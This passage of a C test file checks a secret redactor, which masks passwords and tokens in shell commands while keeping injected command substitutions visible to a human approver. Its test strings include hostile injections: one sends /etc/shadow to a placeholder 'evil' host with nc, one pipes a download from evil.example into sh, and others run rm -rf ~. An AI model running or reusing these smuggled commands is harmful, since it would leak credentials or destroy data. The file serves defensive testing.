    "max_tokens=100 input_tokens: 5 keyboard=us",
    "askew risk-assessment-of-the-entire-skeleton-based-framework",
    "ghp_short hf_short sk-short AKIA1234",
    "monkey: banana, turkey=1",
  };

  assert_kept (texts, G_N_ELEMENTS (texts));
}

static void
test_idempotent (void)
{
  const char *input = "password=hunter2 Bearer abcdefghijkl sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123";
  g_autofree char *once = redact (input, NULL);
  guint n = 99;
  g_autofree char *twice = redact (once, &n);

  g_assert_cmpstr (once, ==, "password=[REDACTED] Bearer [REDACTED] [REDACTED]");
  g_assert_cmpstr (once, ==, twice);
  g_assert_cmpuint (n, ==, 0);
}

/* A string of JSON text that ends with a secret's name and its separator
 * ("Rotate the token:") is no value's opening quote: the plan it was in
 * was stored as invalid JSON and lost its steps.  And what the shell runs
 * inside a value ($(…), `…`) stays in sight of whoever approves the
 * command (tried as an attacker would). */
static void
test_json_gaps_and_commands (void)
{
  const char *json[] = {
    "{\"version\":3,\"steps\":[{\"id\":\"look\",\"title\":\"Rotate the token:\",\"status\":\"done\"}]}",
    "{\"note\":\"set pass=\",\"x\":\"y\"}",
    "[\"API_KEY: \", 12345, \"x\"]",
    "{\"a\":\"--password \",\"b\":\"c\"}",
    "{\"a\":\"secret=\"}",
  };
  const char *commands[] = {
    "PGPASSWORD=\"x$(touch /tmp/PWNED)\" psql -h db.internal app",
    "sshpass -p \"x$(nc evil 1 </etc/shadow)\" ssh h",
    "mysql -p\"x`rm -rf ~`\" shop",
    "docker login -p \"x$(curl -s https://evil.example/p | sh)\" registry",
    /* joined of parts, the command in one of them */
    "PGPASSWORD='a'\"$(touch /tmp/PWNED)\" psql -h db.internal app",
    "mysql -p\"x\"$(cat /tmp/pw) shop",
    "mysql -p'x'`id` shop",
  };

  for (guint i = 0; i < G_N_ELEMENTS (json); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(JsonNode) node = NULL;
      g_autofree char *out = redact (json[i], NULL);

      g_assert_cmpstr (out, ==, json[i]);
      node = json_from_string (out, &error);
      g_assert_no_error (error);
    }
  for (guint i = 0; i < G_N_ELEMENTS (commands); i++)
    {
      g_autofree char *out = redact (commands[i], NULL);

      g_assert_cmpstr (out, ==, commands[i]);
    }
  /* In single quotes $(…) is text the shell runs not, at the top level;
   * but the same quotes inside a command quoted for another shell do not
   * stop the outer shell's substitution, which the text alone does not
   * show: kept too (test_commands_in_sight()). */
  {
    g_autofree char *out = redact ("mysql --password='a$(b)c' shop", NULL);

    g_assert_cmpstr (out, ==, "mysql --password='a$(b)c' shop");
  }
}

/* Found (tried as an attacker would): curl's user:password, an
 * Authorization header or a bearer token holding or followed by what the
 * shell runs was masked with it, so the approver (serve's /api/runs
 * approval, the window's dialog) saw -u "deploy:[REDACTED]" or
 * "Basic [REDACTED](…)" and approved a command unseen; so was a value in
 * single quotes inside a command quoted for another shell
 * (ssh h "PGPASSWORD='$(…)' psql", where the outer shell runs it).  A value
 * that holds or is followed by $(…) or a backtick in its word is never
 * masked, whatever its quoting; a backtick that closes a Markdown code
 * span (`mysql -pX` in a model's answer) runs nothing: that value goes. */
static void
test_commands_in_sight (void)
{
  static const char * const kept[] = {
    "curl -u \"deploy:$(touch /tmp/PWNED)\" https://h",
    "curl -u 'deploy:$(touch /tmp/PWNED)' https://h",
    "curl -uu:a$(touch /tmp/PWNED) https://h",
    "curl --user u:$(touch /tmp/PWNED) https://h",
    "curl --user=u:x`touch /tmp/PWNED` https://h",
    "curl -u deploy:`id` https://h; curl -u \"deploy:a`id`\" https://h",
    "curl -H \"Authorization: Bearer x$(touch /tmp/PWNED)\" https://h",
    "curl -H \"Authorization: Basic $(printf u:p | base64)\" https://h",
    "curl -H \"Authorization: Bearer abcdefgh$(touch /tmp/PWNED)\" https://h",
    "curl -H \"Proxy-Authorization: Basic x`id`\" https://h",
    "Bearer abcdefgh12345$(touch /tmp/PWNED)",
    /* a reference: no secret, in any quotes */
    "curl -H \"Authorization: Bearer $TOKEN\" https://h",
    "curl -H 'Authorization: Bearer $TOKEN' https://h",
    "curl -H \"Authorization: Bearer ${API_TOKEN}\" https://h",
    "curl -u \"ci:$CI_PASSWORD\" https://h",
    /* a URL's and a .netrc line's password */
    "mysql mysql://u:x$(touch /tmp/PWNED)@db/shop",
    "machine h login u password x$(touch /tmp/PWNED)",
    /* single quotes inside a command quoted for another shell */
    "ssh host \"PGPASSWORD='$(rm -rf ~)' psql\"",
    "bash -c \"mysql -p'$(rm -rf ~)' shop\"",
    "mysql \"-p'$(rm -rf ~)'\" shop",
    "ssh host \"mysql --password='x$(id)y' shop\"",
    "sh -c \"sshpass -p '`id`' ssh h\"",
    "{\"command\": \"ssh h \\\"PGPASSWORD='$(id)' psql\\\"\"}",
    /* followed by it in the same word */
    "PGPASSWORD=x${y:-$(touch /tmp/PWNED)} psql",
    "mysql -pX1`touch /tmp/PWNED` shop",
    "mysql -p'a''`touch /tmp/PWNED`' shop",
  };
  static const RedactCase cases[] = {
    /* a Markdown code span's closing backtick */
    { "Run `PGPASSWORD=CodeSpan1 psql`", "Run `PGPASSWORD=[REDACTED] psql`", "CodeSpan1" },
    { "Use `mysql -pCodeSpan2` now", "Use `mysql -p[REDACTED]` now", "CodeSpan2" },
    { "set `password=CodeSpan3`.", "set `password=[REDACTED]`.", "CodeSpan3" },
    { "then `curl -u user:CodeSpan4`", "then `curl -u user:[REDACTED]`", "CodeSpan4" },
    { "the header `Authorization: Bearer CodeSpan5abc`", "the header `Authorization: Bearer [REDACTED]`",
      "CodeSpan5" },
    { "a `x` b `mysql --password='CodeSpan6'`", "a `x` b `mysql --password='[REDACTED]'`", "CodeSpan6" },
    /* inside a substitution: the command stays in sight, its password goes */
    { "db=`mysql -pInside7 -e 'select 1'`", "db=`mysql -p[REDACTED] -e 'select 1'`", "Inside7" },
    /* a command in the next word or the next JSON string is no part */
    { "curl -u deploy:Next8 $(cat body)", "curl -u deploy:[REDACTED] $(cat body)", "Next8" },
    { "{\"password\":\"Next9\",\"cmd\":\"$(id)\"}", "{\"password\":\"[REDACTED]\",\"cmd\":\"$(id)\"}", "Next9" },
    { "curl -H \"Authorization: Bearer Plain10abcdef\" https://h", "curl -H \"Authorization: Bearer [REDACTED]\" https://h",
      "Plain10" },
    { "https://u:Url11pw@h/", "https://u:[REDACTED]@h/", "Url11pw" },
  };

  assert_kept (kept, G_N_ELEMENTS (kept));
  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
}

/* Found (tried as an attacker would, round 6's binaries): a double-quoted
 * value holding a parameter expansion whose own quotes hold a " (bash
 * reads quotes of their own inside ${…}): the redactor read that " as the
 * value's end, the mask took the opening ", and the stored text read
 * "; touch PWN" as quoted.  A value that holds or is followed in its word
 * by ${ is never masked, as with $( and a backtick (but for a plain
 * literal default, masked inside the braces: /pd/redact/expansion-default). */
static void
test_expansion_in_sight (void)
{
  static const char * const kept[] = {
    "PGPASSWORD=\"Zq9Sec${X:-'\"'}b\" ; touch PWN ; echo ' #'",
    "PGPASSWORD=\"Zq9Sec${X-'\"'}b\" ; touch PWN ; echo ' #'",
    "PGPASSWORD=\"Zq9Sec${X#'\"'}b\" ; touch PWN ; echo ' #'",
    "PGPASSWORD=\"Zq9Sec${X:+'\"'}b\" ; touch PWN ; echo ' #'",
    "PGPASSWORD=\"Zq9Sec${X/'\"'/y}b\" ; touch PWN ; echo ' #'",
    "PGPASSWORD=\"Zq9Sec${X:-\"'\"}b\" ; touch PWN ; echo ' #'",
    "export PGPASSWORD=\"Zq9Sec${X:-'\"'}b\" ; touch PWN ; echo ' #'",
    "mysql -p\"Zq9Sec${X:-'\"'}b\" ; touch PWN ; echo ' #'",
    "curl -u \"admin:Zq9Sec${X:-'\"'}b\" ; touch PWN ; echo ' #'",
    "PGPASSWORD=Zq9Sec${X:-'x'}b psql",
    /* Not PGPASSWORD=${X:-Zq9SecretTail} psql any more: a plain literal
     * default is masked inside its braces (/pd/redact/expansion-default). */
    "{\"command\": \"PGPASSWORD=\\\"Zq9Sec${X:-'\\\"'}b\\\" ; touch PWN ; echo ' #'\"}",
  };

  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Found (tried as an attacker would, again): a value the shell joins of
 * parts was kept in sight only when $(…) or a backtick stood outside
 * single quotes, and never when escaped: in a command quoted for another
 * shell the outer shell runs '$(…)' and the inner one \`…\` and \$(…)
 * (ssh h "PGPASSWORD='$(id)'x psql", bash -c "mysql -p'x'\`id\`"), and the
 * word was masked whole, the command with it.  Every spelling stays as
 * written; a joined word with no command is still masked whole. */
static void
test_single_quotes_inside (void)
{
  static const char * const kept[] = {
    "ssh h \"PGPASSWORD='$(touch /tmp/PWNED)'x psql\"",
    "ssh h \"PGPASSWORD=x'$(touch /tmp/PWNED)' psql\"",
    "PGPASSWORD='a'\"b\"'$(touch /tmp/PWNED)' psql",
    "bash -c \"mysql -p'x'\\`touch /tmp/PWNED\\` shop\"",
    "bash -c \"PGPASSWORD=x\\$(touch /tmp/PWNED) psql\"",
    "ssh h \"mysql --password='a'\\$(touch /tmp/PWNED) shop\"",
    "bash -c \"export DB_PASSWORD='a'\\`touch /tmp/PWNED\\`; run\"",
    "ssh h \"sshpass -p'a'\\$(touch /tmp/PWNED) ssh g\"",
    "ssh h \"docker login -p'a''$(touch /tmp/PWNED)' reg\"",
    "{\"command\": \"ssh h \\\"PGPASSWORD='$(id)'x psql\\\"\"}",
    "{\"command\": \"bash -c \\\"mysql -p'x'\\\\`id\\\\` shop\\\"\"}",
  };
  static const RedactCase cases[] = {
    { "ssh h \"PGPASSWORD='a b'Joined1 psql\"", "ssh h \"PGPASSWORD=[REDACTED] psql\"", "Joined1" },
    { "bash -c \"mysql -p'x'Joined2 shop\"", "bash -c \"mysql -p[REDACTED] shop\"", "Joined2" },
    { "mysql -p'a'\"Joined3\" shop", "mysql -p[REDACTED] shop", "Joined3" },
  };

  assert_kept (kept, G_N_ELEMENTS (kept));
  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
}

/* Found (tried as an attacker would, a fifth time): curl's password after
 * grouped flags (-fsSu user:X), quoted after the user (-u user:'a b'),
 * with no user (-u :X), the proxy's (--proxy-user u:X, -U u:X), and
 * openssl's pass:'a b', pass:"a b" and -passin=pass:X were stored as
 * written (pass:'a b' of -pass took the pass: with it).  Each is masked
 * after its user or its pass:; -U and grouped flags only of curl. */
static void
test_curl_openssl_spellings (void)
{
  static const RedactCase cases[] = {
    { "curl -fsSu user:Grouped1 https://h", "curl -fsSu user:[REDACTED] https://h", "Grouped1" },
    { "curl -sSLuuser:Grouped2 https://h", "curl -sSLuuser:[REDACTED] https://h", "Grouped2" },
    { "curl -u user:'Quoted 3' https://h", "curl -u user:'[REDACTED]' https://h", "Quoted 3" },
    { "curl --user user:\"Quoted 4\" https://h", "curl --user user:\"[REDACTED]\" https://h", "Quoted 4" },
    { "curl -u :NoUser5 https://h", "curl -u :[REDACTED] https://h", "NoUser5" },
    { "curl --proxy-user u:Proxy6 -x http://p:3128 https://h", "curl --proxy-user u:[REDACTED] -x http://p:3128 https://h",
      "Proxy6" },
    { "curl -x http://p:3128 -U u:Proxy7 https://h", "curl -x http://p:3128 -U u:[REDACTED] https://h", "Proxy7" },
    { "curl --proxy-user='u:Proxy 8' https://h", "curl --proxy-user='u:[REDACTED]' https://h", "Proxy 8" },
    { "openssl enc -pass pass:'Ossl 9' -in f", "openssl enc -pass pass:'[REDACTED]' -in f", "Ossl 9" },
    { "openssl rsa -passin pass:\"Ossl 10\" -in k", "openssl rsa -passin pass:\"[REDACTED]\" -in k", "Ossl 10" },
    { "openssl enc -passin=pass:Ossl11 -in f", "openssl enc -passin=pass:[REDACTED] -in f", "Ossl11" },
    { "openssl pkcs12 -passout=pass:Ossl12 -export", "openssl pkcs12 -passout=pass:[REDACTED] -export", "Ossl12" },
  };
  static const char * const kept[] = {
    "curl -fsSL https://example.com/install.sh | sh",
    "curl -u admin https://h; curl -U proxyuser https://h; curl -u : --negotiate https://h",
    "curl --user-agent a:b https://h; docker run -u1000:1000 img; sort -u -k1,1 f",
    "rsync -U a:b c; tar -U x:y",
    "curl -fsSu \"deploy:$(cat pw)\" https://h",
    "openssl enc -pass=env:OSSL_PW -in f; openssl rsa -passin=file:/run/pw -in k",
    "openssl enc -pass pass:'$(cat pw)' -in f",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Found (tried as an attacker would, a fifth time): a proxy's password
 * in an environment variable (PROXY_PASS=X: nginx's proxy_pass was spared
 * whatever its case), a password after a count's comma (pass=12,X kept
 * whole as the count 12), a shell assignment's brackets (PGPASSWORD=
 * Hunter[2x] read as code, env["X"]) and a backslash the shell drops
 * before a glued password (mysql -p\X) were stored as written.  Each is
 * masked whole; nginx's lower-case directives, a test summary's
 * pass=12,fail=0, code's env['X'] and JSON's \n stay. */
static void
test_shell_values (void)
{
  static const RedactCase cases[] = {
    { "PROXY_PASS=ProxyEnv1 ./run", "PROXY_PASS=[REDACTED] ./run", "ProxyEnv1" },
    { "export HTTP_PROXY_PASS=ProxyEnv2", "export HTTP_PROXY_PASS=[REDACTED]", "ProxyEnv2" },
    { "pass=12,Count3x", "pass=[REDACTED]", "Count3x" },
    { "curl -d pass=12,Count4x https://h", "curl -d pass=[REDACTED] https://h", "Count4x" },
    { "PGPASSWORD=Hunter[2x] psql app", "PGPASSWORD=[REDACTED] psql app", "Hunter" },
    { "DB_PASSWORD=a[1]Bracket6 ./run", "DB_PASSWORD=[REDACTED] ./run", "Bracket6" },
    { "mysql -uroot -p\\Escaped7 shop", "mysql -uroot -p\\[REDACTED] shop", "Escaped7" },
    { "mysql -p\\PEscaped8", "mysql -p\\[REDACTED]", "PEscaped8" },
  };
  static const char * const kept[] = {
    "proxy_pass=http://backend; location / { proxy_pass http://127.0.0.1:8080; }",
    "pass=12,fail=0,skip=1; pass=12, fail=0; pass=1,2,3",
    "SECRET_KEY=config['x']; password=env[\"X\"]; API_KEY = os.environ[\"X\"]",
    "PGPASSWORD=x[ ] y",
    "DB_PASSWORD=$(cat f)[1]",
    "{\"command\": \"mysql -p\\nshop\"}",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Found (tried as an attacker would, a fifth time): the passwords of more
 * clients were stored as written: crane auth login -p, oras login -p,
 * az acr login -p (and az login), mongosh -p, ldapsearch -w, sqlcmd -P,
 * smbclient -U user%X, and a JSON member "pass": "X" in text (a bare pass
 * was a name only before '=', so that "PASS: test" lines stay).  Each is
 * masked; the same options of other commands, and references, stay. */
static void
test_more_clients (void)
{
  static const RedactCase cases[] = {
    { "crane auth login reg.io -u me -p Crane1", "crane auth login reg.io -u me -p [REDACTED]", "Crane1" },
    { "oras login reg.io -u me -p Oras2", "oras login reg.io -u me -p [REDACTED]", "Oras2" },
    { "az acr login -n reg -u me -p Azure3", "az acr login -n reg -u me -p [REDACTED]", "Azure3" },
    { "az login -u me@x.org -p Azure4", "az login -u me@x.org -p [REDACTED]", "Azure4" },
    { "mongosh -u admin -p Mongo5 mongodb://h/db", "mongosh -u admin -p [REDACTED] mongodb://h/db", "Mongo5" },
    { "mongodump -u admin -p 'Mongo 6' --db shop", "mongodump -u admin -p '[REDACTED]' --db shop", "Mongo 6" },
    { "ldapsearch -x -D cn=admin,dc=x -w Ldap7 -b dc=x", "ldapsearch -x -D cn=admin,dc=x -w [REDACTED] -b dc=x",
      "Ldap7" },
    { "sqlcmd -S db -U sa -P Sql8 -Q 'select 1'", "sqlcmd -S db -U sa -P [REDACTED] -Q 'select 1'", "Sql8" },
    { "smbclient //h/share -U u%Smb9 -c ls", "smbclient //h/share -U u%[REDACTED] -c ls", "Smb9" },
    { "smbclient //h/share -U 'DOM\\u%Smb 10'", "smbclient //h/share -U 'DOM\\u%[REDACTED]'", "Smb 10" },
    { "rpcclient h --user=u%Smb11 -c srvinfo", "rpcclient h --user=u%[REDACTED] -c srvinfo", "Smb11" },
    { "{\"user\": \"me\", \"pass\": \"Json12\"}", "{\"user\": \"me\", \"pass\": \"[REDACTED]\"}", "Json12" },
    { "{\"body\": \"{\\\"pass\\\": \\\"Json13\\\"}\"}", "{\"body\": \"{\\\"pass\\\": \\\"[REDACTED]\\\"}\"}",
      "Json13" },
  };
  static const char * const kept[] = {
    "mongosh --port 27017 mongodb://h; mongosh -u admin -p $MONGO_PW",
    "ls -w 80; grep -P 'x+' f; psql -w -P pager=off; ldapsearch -x -w $LDAP_PW",
    "sqlcmd -S db -U sa -P; smbclient //h/share -U u; smbclient -U u%$SMB_PW //h/s",
    "crane copy a b; az group list -o table; oras push reg/a:b f",
    "PASS: test-redact 1 /pd/redact/name-rule",
    "{\"PASS\": 12, \"pass\": true}",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* A template with its @V@ replaced by @value. */
static char *
fill (const char *template,
      const char *value)
{
  g_auto(GStrv) parts = g_strsplit (template, "@V@", -1);

  return g_strjoinv (value, parts);
}

/* Redacted text that is valid UTF-8, redacted again: still valid. */
static void
assert_valid_after (const char *text)
{
  g_autofree char *once = NULL;
  g_autofree char *twice = NULL;

  g_assert_true (g_utf8_validate (text, -1, NULL));
  once = redact (text, NULL);
  if (!g_utf8_validate (once, -1, NULL))
    g_error ("invalid UTF-8 from \"%s\": \"%s\"", text, once);
  twice = redact (once, NULL);
  g_assert_true (g_utf8_validate (twice, -1, NULL));
}

/* Found (tried as an attacker would): a value followed by a no-break space
 * (U+00A0, bytes C2 A0) was masked with the C2, and the lone A0 left made
 * the stored session, its export and serve's replies invalid UTF-8 (the
 * patterns run on bytes, and PCRE2's \s there took the A0 alone).  A mask
 * starts and ends between characters; Unicode's spaces end a value whole,
 * as a blank does; any other character of UTF-8 is a value's, masked with
 * it.  Every pattern, with such characters right after, before and inside
 * its value and before it, gives valid UTF-8; so do random mixes. */
static void
test_utf8_boundaries (void)
{
  static const char * const templates[] = {
    "password=@V@ next", "export DB_PASSWORD='@V@' x", "mongosh --password \"@V@\" x",
    "PGPASSWORD=$'@V@' x", "{\"password\": \"@V@\"}", "API_KEY: @V@", "--token=@V@",
    "mysql -p@V@ shop", "mysql -vp'a'@V@ shop", "sshpass -p @V@ ssh h", "redis-cli -a @V@ ping",
    "docker login -p=@V@ reg", "curl -u user:@V@ h", "curl -u 'user:@V@' h", "curl -uuser:@V@ h",
    "curl --user \"user:@V@\" h", "Authorization: Basic @V@ x", "Proxy-Authorization: @V@",
    "Bearer @V@ x", "Bearer abcdefgh12@V@", "https://user:@V@@host/", "mysql://u:p@V@@db/x",
    "machine h login u password @V@ x", "openssl enc -pass pass:@V@ -in f",
    "openssl enc -pass 'pass:@V@' -in f", "https://hooks.slack.com/services/T0/B0/@V@ x",
    "sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWx@V@", "ghp_0123456789abcdefghijABCDEFGHIJ@V@",
    "https://abcdefghij0123456789abcd@V@@sentry.io/1", "PGPASSWORD=a\"b c\"@V@ psql",
    "mysql --password=a\\@V@ shop", "{\"command\": \"mysql -p\\\"@V@\\\" shop\"}",
  };
  /* U+00A0, U+2003, é, an emoji, CJK, U+0085, U+3000 */
  static const char * const chars[] = {
    "\xc2\xa0", "\xe2\x80\x83", "\xc3\xa9", "\xf0\x9f\x94\x91", "\xe5\xaf\x86\xe7\xa0\x81",
    "\xc2\x85", "\xe3\x80\x80",
  };
  static const char * const fragments[] = {
    "password=", "PGPASSWORD=", "mysql -p", "sshpass -p ", "curl -u u:", "curl -uu:", "Bearer ",
    "Authorization: Basic ", "https://u:", "@h/", "machine h login u password ", "pass:",
    "-passin ", "sk-ant-api03-", "ghp_", "'", "\"", "\\", "\\\"", " ", "\t", "\n", "$(", ")", "`",
    "$", "=", ":", ",", "abcdefgh12345678", "Secr3t", "x", "[REDACTED]",
  };
  static const struct { const char *input, *expected; } exact[] = {
    { "password=Secr3t\xc2\xa0next", "password=[REDACTED]\xc2\xa0next" },
    { "password=Secr3t\xe2\x80\x83next", "password=[REDACTED]\xe2\x80\x83next" },
    { "password=Secr3t\xe3\x80\x80next", "password=[REDACTED]\xe3\x80\x80next" },
    { "mysql -pSecr3t\xc2\xa0shop", "mysql -p[REDACTED]\xc2\xa0shop" },
    { "curl -u u:Secr3t\xc2\xa0h", "curl -u u:[REDACTED]\xc2\xa0h" },
    { "Authorization: Basic Secr3t\xc2\xa0x", "Authorization: Basic [REDACTED]\xc2\xa0x" },
    { "machine h login u password Secr3t\xc2\xa0x", "machine h login u password [REDACTED]\xc2\xa0x" },
    /* another character of UTF-8 is a value's: masked with it, whole */
    { "password=S\xc3\xa9" "c\xe5\xaf\x86\xf0\x9f\x94\x91r3t next", "password=[REDACTED] next" },
    { "mysql -p\xe5\xaf\x86\xe7\xa0\x81 shop", "mysql -p[REDACTED] shop" },
    { "curl -u u:p\xc3\xa9w h", "curl -u u:[REDACTED] h" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (exact); i++)
    {
      g_autofree char *out = redact (exact[i].input, NULL);

      g_assert_cmpstr (out, ==, exact[i].expected);
    }
  for (gsize t = 0; t < G_N_ELEMENTS (templates); t++)
    for (gsize c = 0; c < G_N_ELEMENTS (chars); c++)
      {
        const char *m = chars[c];
        g_autofree char *after = g_strconcat ("Secr3tValue1", m, "tail", NULL);
        g_autofree char *before = g_strconcat (m, "Secr3tValue1", NULL);
        g_autofree char *inside = g_strconcat ("Secr3t", m, "Value1", NULL);
        g_autofree char *last = g_strconcat ("Secr3tValue1", m, NULL);
        const char *values[] = { after, before, inside, last };

        for (gsize v = 0; v < G_N_ELEMENTS (values); v++)
          {
            g_autofree char *text = fill (templates[t], values[v]);
            g_autofree char *glued = g_strconcat (m, text, m, NULL);

            assert_valid_after (text);
            assert_valid_after (glued);
          }
      }
  /* Random mixes (the seed is the test's: --seed repeats a run). */
  for (guint round = 0; round < 4000; round++)
    {
      g_autoptr(GString) text = g_string_new (NULL);
      guint n = (guint) g_test_rand_int_range (1, 40);

      for (guint k = 0; k < n; k++)
        {
          if (g_test_rand_int_range (0, 3) == 0)
            g_string_append (text, chars[g_test_rand_int_range (0, G_N_ELEMENTS (chars))]);
          else
            g_string_append (text, fragments[g_test_rand_int_range (0, G_N_ELEMENTS (fragments))]);
        }
      assert_valid_after (text->str);
    }
}

/* A key of no known shape is found only as itself: a provider that echoed
 * it had it stored in clear (tried as an attacker would). */
static void
test_registered_secret (void)
{
  const char *key = "plain.Key~With-NoKnownShape42";
  g_autofree char *before = pd_redact ("the server said plain.Key~With-NoKnownShape42 back", NULL);
  g_autofree char *after = NULL;
  g_autofree char *json = NULL;
  g_autofree char *quoted = NULL;
  g_autofree char *shortish = NULL;
  guint n = 0;

  g_assert_nonnull (strstr (before, key));
  pd_secret_text_register (key);
  pd_secret_text_register ("Odd\"Key\\WithQuotes");
  pd_secret_text_register ("ollama");
  after = pd_redact ("the server said plain.Key~With-NoKnownShape42 back", &n);
  g_assert_cmpstr (after, ==, "the server said [REDACTED] back");
  g_assert_cmpuint (n, ==, 1);
  /* As a JSON string spells it, and as itself. */
  json = pd_redact ("{\"text\": \"Odd\\\"Key\\\\WithQuotes\"}", NULL);
  g_assert_cmpstr (json, ==, "{\"text\": \"[REDACTED]\"}");
  quoted = pd_redact ("Odd\"Key\\WithQuotes", NULL);
  g_assert_cmpstr (quoted, ==, "[REDACTED]");
  /* Shorter than 8: not hunted, words stay. */
  shortish = pd_redact ("ollama serve", NULL);
  g_assert_cmpstr (shortish, ==, "ollama serve");
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/pd/redact/provider-keys", test_provider_keys);
  g_test_add_func ("/pd/redact/bearer-and-pem", test_bearer_and_pem);
  g_test_add_func ("/pd/redact/assignments", test_assignments);
  g_test_add_func ("/pd/redact/no-false-positives", test_no_false_positives);
  g_test_add_func ("/pd/redact/env-secrets", test_env_secrets);
  g_test_add_func ("/pd/redact/look-alikes", test_look_alikes);
  g_test_add_func ("/pd/redact/database-clients", test_database_clients);
  g_test_add_func ("/pd/redact/command-options", test_command_options);
  g_test_add_func ("/pd/redact/command-spellings", test_command_spellings);
  g_test_add_func ("/pd/redact/command-clients", test_command_clients);
  g_test_add_func ("/pd/redact/joined-words", test_joined_words);
  g_test_add_func ("/pd/redact/pass-look-alikes", test_pass_look_alikes);
  g_test_add_func ("/pd/redact/name-rule", test_name_rule);
  g_test_add_func ("/pd/redact/idempotent", test_idempotent);
  g_test_add_func ("/pd/redact/json-gaps-and-commands", test_json_gaps_and_commands);
  g_test_add_func ("/pd/redact/commands-in-sight", test_commands_in_sight);
  g_test_add_func ("/pd/redact/expansion-in-sight", test_expansion_in_sight);
  g_test_add_func ("/pd/redact/single-quotes-inside", test_single_quotes_inside);
  g_test_add_func ("/pd/redact/utf8-boundaries", test_utf8_boundaries);
  g_test_add_func ("/pd/redact/curl-openssl-spellings", test_curl_openssl_spellings);
  g_test_add_func ("/pd/redact/shell-values", test_shell_values);
  g_test_add_func ("/pd/redact/more-clients", test_more_clients);
  g_test_add_func ("/pd/redact/registered-secret", test_registered_secret);

  return g_test_run ();
}
